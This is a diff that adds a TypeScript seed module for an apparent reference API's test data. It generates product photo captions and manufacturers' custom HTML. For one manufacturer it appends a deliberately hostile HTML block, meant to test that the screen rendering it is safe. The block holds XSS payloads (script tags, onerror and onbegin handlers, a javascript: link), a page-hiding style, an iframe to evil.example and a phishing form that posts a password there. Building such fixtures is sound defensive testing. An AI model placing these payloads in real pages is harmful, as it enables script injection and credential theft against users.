@@ -1,0 +1,65 @@
+import { NORTHFOLD } from '#src/reference-api/seed/named-makers.ts';
+import type { Seeding } from '#src/reference-api/seed/seeding.ts';
+import { escaped } from '#src/reference-api/seed/news.ts';
+import { lowered } from '#src/reference-api/seed/titles.ts';
+
+/** Drawn views that a manufacturer adds to a product's picture. */
+export function seedPhotos(seeding: Seeding): void {
+  const views = [
+    'on the pallet, as delivered',
+    'in the mock-up at the works',
+    'installed, before the next trade',
+  ];
+  for (const { product, profile } of seeding.makes) {
+    const random = seeding.random('photos', product.id);
+    if (product.id !== 1 && !random.chance(0.15)) continue;
+    const count = product.id === 1 ? 3 : random.whole(1, 2);
+    seeding.world.photos.set(
+      product.id,
+      views.slice(0, count).map((view, index) => ({
+        id: product.id * 10 + index,
+        productId: product.id,
+        url: `/api/files/product/${product.id}-${index + 2}.svg`,
+        caption: `${product.tradename} ${lowered(product.noun)} ${view}${index === 0 ? `, for ${profile.uses[0] ?? 'the works'}` : ''}`,
+      })),
+    );
+  }
+}
+
+/** The manufacturers' own HTML: most of it plain, some of it hostile or broken, on purpose. */
+export function seedCustomHtml(seeding: Seeding): void {
+  for (const { company, profiles } of seeding.makers) {
+    if (profiles.length === 0) continue;
+    const random = seeding.random('html', company.coid);
+    if (company.coid !== NORTHFOLD && !random.chance(0.35)) continue;
+    const [first, second] = profiles;
+    const name = escaped(company.companyNoHtml);
+    const html = [
+      `<h2>Working with ${name}</h2>`,
+      `<p>${escaped(first?.descriptions[0] ?? '')} ${escaped(first?.limitations[0] ?? '')}</p>`,
+      second ? `<h3>Also from our works</h3><p>${escaped(second.descriptions[0] ?? '')}</p>` : '',
+      `<ul><li>Technical desk: ${company.phone ?? ''}</li><li>Samples leave within a day</li><li><a href="https://www.${company.webabrv}.example/reps">Find a representative</a></li></ul>`,
+      `<table><tr><th>Line</th><th>Standard</th></tr>${profiles
+        .slice(0, 4)
+        .map(
+          ({ assembly, standards }) =>
+            `<tr><td>${escaped(assembly)}</td><td>${escaped(standards[0] ?? '')}</td></tr>`,
+        )
+        .join('')}</table>`,
+    ].join('\n');
+    seeding.world.customHtml.set(company.coid, company.coid === NORTHFOLD ? html + HOSTILE : html);
+  }
+}
+
+/** Scripts, handlers, styles, foreign frames, a phishing form and broken markup: what a screen has to survive. */
+const HOSTILE = `
+<script>document.title = 'owned'; window.northfoldRan = true;</script>
+<img src="x" onerror="window.northfoldRan = true" alt="Roof in the snow">
+<p style="position:fixed;inset:0;background:#fff;z-index:99999">Free samples</p>
+<style>body { display: none }</style>
+<iframe src="https://evil.example/frame"></iframe>
+<form action="https://evil.example/login"><input name="password" placeholder="Sign in again"><button>Go</button></form>
+<a href="javascript:alert(1)">Installation guide</a> <a href="//evil.example/x" target="_top">Mirror</a>
+<svg><animate onbegin="window.northfoldRan = true" attributeName="x"></animate></svg>
+<div id="root" class="app"><b>Warranty <i>terms</b> apply</i><table><tr><td>unclosed
+<p>Last <em>word</p></em>`;
